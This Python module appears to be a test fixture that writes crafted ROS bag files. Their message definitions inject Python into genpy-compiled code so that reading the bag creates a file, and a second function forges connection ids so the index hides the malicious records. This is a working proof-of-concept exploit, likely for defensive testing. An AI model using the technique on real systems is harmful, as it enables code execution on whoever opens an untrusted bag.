# SPDX-FileCopyrightText: 2026 The mhri authors
# SPDX-License-Identifier: BSD-3-Clause
"""Bags whose definitions are Python that runs once ``genpy`` compiles them."""
import hashlib
from types import SimpleNamespace

import genpy
from nav_msgs.msg import Odometry
import rosbag

ODOM = '/bot1/odom'
_OP, _MESSAGE, _CONN = b'op=', b'\x02', b'conn='


def definition(target):
    """Return the text of a message that, compiled, makes a file."""
    return 'string open({!r}, {!r});X=1\nfloat64 x\n'.format(str(target), 'w')


def evil_kind(target):
    """Return what stands for a message class of that text; ``rosbag`` compiles a sum only once."""
    return SimpleNamespace(_md5sum=hashlib.md5(str(target).encode()).hexdigest(),
                           _full_text=definition(target))


def write(path, target, topic=ODOM, kind='nav_msgs/Odometry', stamp=genpy.Time(1700000000)):
    """Write a bag whose text makes a file when it is read; some of it is as it should be."""
    evil = evil_kind(target)
    with rosbag.Bag(str(path), 'w') as bag:
        for second in range(3):
            when = stamp + genpy.Duration(second)
            good = Odometry()
            good.pose.pose.orientation.w = 1.0
            bag.write(topic + '_good', good, when)
            bag.write(topic, (kind, bytes(8), evil._md5sum, evil), when, raw=True)


def write_lying(path, target):
    """Write a bag whose index says that its messages are good ones; their records say otherwise."""
    write(path, target)
    data = bytearray(path.read_bytes())
    with rosbag.Bag(str(path)) as bag:
        numbers = {info.topic: number for number, info in bag._connections.items()}
    evil, good = (number.to_bytes(4, 'little') for number in (
        numbers[ODOM], numbers[ODOM + '_good']))
    # Header of a message: its fields in any order, none longer than that of its time.
    place = data.find(_CONN + good)
    while place >= 0:
        if _OP + _MESSAGE in data[place - 40:place + 40]:
            data[place:place + len(_CONN) + 4] = _CONN + evil
        place = data.find(_CONN + good, place + 1)
    path.write_bytes(bytes(data))
